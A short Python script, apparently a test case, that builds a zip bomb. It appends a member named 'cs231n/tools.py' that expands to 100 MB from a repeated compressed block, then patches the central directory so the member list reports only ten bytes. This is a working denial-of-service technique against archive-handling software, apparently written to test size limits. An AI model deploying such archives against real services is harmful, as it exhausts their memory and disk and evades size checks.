"""The list of members says that a bomb has ten bytes."""
# control: none
# layout: zip
# %% attack on the file
import struct, zipfile, zlib
def bomb(path, name, megabytes):
    """Write a member of zeros, without packing them all: a piece of the packed stream is repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = piece * megabytes + b"\x03\0"
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(bytes(1 << 20), check)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, packed)
        member = archive.getinfo(name)
        member.compress_type, member.CRC, member.file_size = zipfile.ZIP_DEFLATED, check, megabytes << 20
        member.compress_size = len(packed)
        archive.fp.seek(member.header_offset)
        archive.fp.write(member.FileHeader(zip64=False))
        archive.fp.seek(0, 2)

bomb(file, "cs231n/tools.py", 100)
with zipfile.ZipFile(file) as archive:
    member = archive.getinfo("cs231n/tools.py")
    size, place = struct.pack("<LL", member.compress_size, member.file_size), archive.start_dir
data = file.read_bytes()
file.write_bytes(data[:place] + data[place:].replace(size, size[:4] + struct.pack("<L", 10)))
